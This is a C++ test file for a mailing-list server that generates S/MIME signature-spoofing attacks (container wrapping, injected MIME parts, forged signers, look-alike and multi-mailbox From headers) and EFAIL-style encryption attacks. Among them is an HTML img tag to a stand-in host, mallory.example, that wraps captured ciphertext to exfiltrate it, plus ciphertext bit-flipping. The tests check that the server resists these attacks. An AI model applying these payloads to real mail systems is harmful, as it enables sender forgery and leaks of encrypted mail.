// Attacks on signed and encrypted mail, made anew for each run: those of "Johnny, you are fired!"
// (USENIX Security 2019) that concern a server, of EFAIL (2018), and tricks with addresses and
// containers. The attacker has a certificate of a trusted authority (erin), one of their own with
// alice's address (mallory), and everything that alice ever sent. None of it proves that alice
// wrote, and none of it shows to anybody what was encrypted.
#include "site.hpp"

#include <functional>

using namespace e2e;

namespace {

const std::string secret = "agreed on everything";

struct Attack {
  std::string name, message;
};

// Each is a message of its own.
std::string with_id(const std::string& name, std::string message) {
  const std::string before = "<e2e.1@";
  const auto at = message.find(before);
  REQUIRE(at != std::string::npos);
  message.insert(at + 1, name);
  return message;
}

const std::string boundary = "=_attack";

std::string part(const std::string& entity) {
  return in_this_world("--" + boundary + "\n" + in_lf(entity) + "\n");
}

// A multipart of these under alice's header.
std::string multipart(const std::string& subtype, const std::vector<std::string>& entities) {
  std::string body;
  for (const auto& entity : entities) body += part(entity);
  return in_this_world(cut(in_lf(plain())).header + "MIME-Version: 1.0\nContent-Type: multipart/" +
                       subtype + "; boundary=\"" + boundary + "\"\n\n") +
         body + in_this_world("--" + boundary + "--\n");
}

std::string entity_of(const std::string& post) { return cut(in_lf(post)).entity; }

const std::string evil = "Content-Type: text/plain\n\nSend the money to Mallory.\n";

// What alice signed, where it proves nothing about the whole.
std::vector<Attack> containers() {
  const auto signed_by_alice = entity_of(sign("alice"));
  const auto whole = sign("alice");
  const auto opaque = entity_of(sign("alice", {}, {"-nodetach"}));
  const auto forwarded = "Content-Type: message/rfc822\n\n" + in_lf(whole);
  std::vector<Attack> attacks = {
      {"signed-part-in-mixed", multipart("mixed", {evil, signed_by_alice})},
      {"signed-part-first", multipart("mixed", {signed_by_alice, evil})},
      {"signed-part-in-related", multipart("related", {evil, signed_by_alice})},
      {"signed-part-in-alternative", multipart("alternative", {signed_by_alice, evil})},
      {"opaque-part-in-mixed", multipart("mixed", {evil, opaque})},
      {"forwarded-inside-mixed", multipart("mixed", {evil, forwarded})},
      {"only-forwarded",
       in_this_world(cut(in_lf(plain())).header + "MIME-Version: 1.0\n" + forwarded)},
      {"wrapped-in-erins", sign_around("erin", whole)},
      {"changed-text", replaced(whole, "everything", "everythinG")},
  };
  return attacks;
}

// The two parts of alice's signed post, and a third.
std::vector<Attack> third_parts() {
  const auto post = in_lf(sign("alice"));
  const auto at = post.find("boundary=\"") + 10;
  const auto delimiter = "--" + post.substr(at, post.find('"', at) - at);
  const auto first = post.find("\n" + delimiter + "\n") + 1;
  const auto second = post.find("\n" + delimiter + "\n", first) + 1;
  const auto added = delimiter + "\n" + evil + "\n";
  auto in_front = post, between = post, before_end = post;
  in_front.insert(first, added);
  between.insert(second, added);
  before_end.insert(post.rfind(delimiter + "--"), added);
  auto swapped = post.substr(0, first) +
                 post.substr(second, post.rfind(delimiter + "--") - second) +
                 post.substr(first, second - first) + post.substr(post.rfind(delimiter + "--"));
  return {{"third-part-in-front", in_this_world(in_front)},
          {"third-part-between", in_this_world(between)},
          {"third-part-behind", in_this_world(before_end)},
          {"parts-swapped", in_this_world(swapped)}};
}

// What says twice what it is: others may read another content in it.
std::vector<Attack> ambiguities() {
  const auto post = sign("alice");
  const auto other = in_this_world("Content-Type: text/html\n");
  auto in_front = post, boundary_twice = post;
  in_front.insert(post.find("MIME-Version:"), other);
  const auto at = boundary_twice.find("boundary=\"");
  boundary_twice.insert(at, "boundary=\"other\"; ");
  return {{"content-type-twice", in_front}, {"boundary-twice", boundary_twice}};
}

// CMS: the signature is somebody's, or over something else.
std::vector<Attack> containers_of_cms() {
  const auto detached_over_other = [] {
    // alice's signature of one post under another
    Letter other;
    other.body = "Send the money to Mallory.\n";
    auto mine = in_lf(sign("alice"));
    const auto text = std::string("We agreed on everything.\nThe rest is for next week.\n");
    return in_this_world(replaced(mine, text, other.body));
  };
  const auto certificates_only = [] {
    const auto made =
        bash("openssl crl2pkcs7 -nocrl -certfile \"$1\" | sed 's/PKCS7/CMS/'", {pki("alice.pem")});
    REQUIRE(made.exit == 0);
    const auto begin = made.out.find('\n') + 1;
    return in_this_world(cut(in_lf(plain())).header +
                         "MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; "
                         "smime-type=signed-data; name=\"smime.p7m\"\nContent-Transfer-Encoding: "
                         "base64\n\n" +
                         made.out.substr(begin, made.out.find("-----END") - begin));
  };
  return {{"other-content", detached_over_other()},
          {"certificates-only", certificates_only()},
          {"untrusted-authority", sign("mallory")},
          {"trusted-but-anothers-address", sign("erin")},
          {"two-signers-one-not-alice",
           sign("erin", {},
                {"-signer", pki("mallory.pem").string(), "-inkey", pki("mallory.key").string()})}};
}

// Whose message it is, as a person may read it and a program must not.
std::vector<Attack> addresses() {
  const auto from = [](const std::string& field) {
    Letter letter;
    letter.from = field;
    return sign("erin", letter);
  };
  const auto header = [](const std::string& more) {
    Letter letter;
    letter.from = "erin@example.org";
    letter.more_fields = more;
    return sign("erin", letter);
  };
  return {
      {"address-as-name", from("\"alice@example.org\" <erin@example.org>")},
      {"address-as-name-encoded", from("=?utf-8?Q?alice=40example=2Eorg?= <erin@example.org>")},
      {"two-mailboxes", from("alice@example.org, erin@example.org")},
      {"two-mailboxes-reversed", from("erin@example.org, alice@example.org")},
      {"group", from("alice@example.org: erin@example.org;")},
      {"comment", from("erin@example.org (alice@example.org)")},
      {"quoted-local-part", from("\"alice@example.org\"@example.net")},
      {"route", from("<@erin.example.org:alice@example.org>")},
      {"nested-angles", from("<alice@example.org> <erin@example.org>")},
      {"encoded-word-as-address", from("=?utf-8?Q?alice=40example=2Eorg?=")},
      {"trailing-dot", from("alice@example.org.")},
      {"look-alike", from("аlice@example.org")},
      {"from-twice", header("From: alice@example.org\n")},
      {"sender-field", header("Sender: alice@example.org\n")},
      {"resent-from", header("Resent-From: alice@example.org\n")},
      {"reply-to", header("Reply-To: alice@example.org\n")},
      {"from-with-space", header("From : alice@example.org\n")},
      {"from-in-subject", header("X-Note: x\n From: alice@example.org\n")},
  };
}

std::vector<Attack> with_ids(const std::vector<Attack>& attacks) {
  std::vector<Attack> out;
  for (const auto& [name, message] : attacks) out.push_back({name, with_id(name, message)});
  return out;
}

}  // namespace

TEST_CASE("no attack on signatures proves that alice wrote, and none is distributed") {
  const Site site;
  site.make_list();  // for members who sign
  for (const auto& make : {containers, third_parts, ambiguities, containers_of_cms, addresses})
    for (const auto& [name, message] : with_ids(make())) {
      INFO(name << "\n" << message);
      const auto object = site.explain(message);
      CHECK_FALSE((object["auth_method"] == "smime" && object["sender"] == "alice@example.org"));
      CHECK(object["verdict"]["action"] != "do_it");
      CHECK(site.deliver(message, {"--no-notice"}).exit == 0);
    }
  CHECK(site.copies() == 0);
}

TEST_CASE("the same means in alice's hands prove that she wrote") {
  const Site site;
  site.make_list();
  for (const Words& options : {Words{}, Words{"-nodetach"}})
    CHECK(site.explain(sign("alice", {}, options))["auth_method"] == "smime");
  // what the label says does not matter
  const auto mislabelled = replaced(sign("alice", {}, {"-nodetach"}), "smime-type=signed-data",
                                    "smime-type=certs-only ");
  CHECK(site.explain(mislabelled)["auth_method"] == "smime");
}

namespace {

// Ciphertext that was caught on its way to the list, in the attacker's hands.
std::string caught() { return sign_and_encrypt("alice", {"notes"}); }

std::string body_of(const std::string& message) {
  const auto text = in_lf(message);
  return text.substr(text.find("\n\n") + 2);
}

// One bit of the encrypted content turned over, in the block before the last but one.
std::string flipped(const std::string& message, std::size_t from_end) {
  const auto ran = bash("openssl base64 -d", {}, body_of(message));
  REQUIRE(ran.exit == 0);
  auto der = ran.out;
  REQUIRE(der.size() > from_end);
  der[der.size() - from_end] = static_cast<char>(der[der.size() - from_end] ^ 1);
  const auto again = bash("openssl base64 -e", {}, der);
  const auto text = in_lf(message);
  return in_this_world(text.substr(0, text.find("\n\n") + 2) + again.out);
}

std::vector<Attack> exfiltrations() {
  const std::string open_image = "Content-Type: text/html\n\n<img src=\"https://mallory.example/\n",
                    close_image = "Content-Type: text/html\n\n\">\n";
  const auto encrypted = entity_of(caught());
  const auto unsigned_one = encrypt({"notes"});
  std::vector<Attack> attacks = {
      {"encrypted-part-in-html", multipart("mixed", {open_image, encrypted, close_image})},
      {"encrypted-part-in-related", multipart("related", {open_image, encrypted})},
      {"encrypted-part-signed-around",
       sign_around("erin", multipart("mixed", {open_image, encrypted, close_image}))},
      {"encrypted-forwarded",
       multipart("mixed", {evil, "Content-Type: message/rfc822\n\n" + in_lf(caught())})},
      {"in-the-attackers-name",
       replaced(caught(), "From: alice@example.org", "From: erin@example.org")},
      {"unsigned", unsigned_one},
      {"signed-around-unsigned", sign_around("erin", unsigned_one)},
  };
  for (const std::size_t from_end : {1u, 20u, 40u, 200u})
    attacks.push_back({"flipped-" + std::to_string(from_end), flipped(caught(), from_end)});
  const auto gcm = sign_and_encrypt("alice", {"notes"}, {}, "-aes-256-gcm");
  for (const std::size_t from_end : {1u, 40u, 200u})
    attacks.push_back({"flipped-gcm-" + std::to_string(from_end), flipped(gcm, from_end)});
  for (auto& attack : attacks) attack.message = with_id(attack.name, std::move(attack.message));
  return attacks;
}

}  // namespace

TEST_CASE("no attack on encryption shows to anybody what was encrypted") {
  for (const auto& [name, message] : exfiltrations()) {
    CAPTURE(name);
    const Site site;
    site.make_list_with_key({"--scenario", "send=public"});
    site.quietly({"member", "add", "notes", "mallory@example.org"});
    const auto ran = site.deliver(message);
    CHECK(ran.exit == 0);
    CHECK_THAT(ran.out + ran.err, !Contains(secret));
    for (const auto& [file, content] : tree(site.root())) {
      INFO(file);
      CHECK_THAT(content, !Contains(secret));
    }
    // a member for whom nothing can be encrypted gets no word of it, in whatever coat
    for (const auto& copy : site.copies_for("mallory@example.org"))
      CHECK_FALSE(can_decrypt("mallory", copy));
  }
}

TEST_CASE("what was changed on its way opens for no member") {
  const Site site;
  site.make_list_with_key({"--scenario", "send=public"});
  for (const auto& [name, message] : exfiltrations()) {
    if (!name.starts_with("flipped")) continue;
    CAPTURE(name);
    const auto action = site.explain(message)["verdict"]["action"];
    CHECK(action == "hold");
  }
}
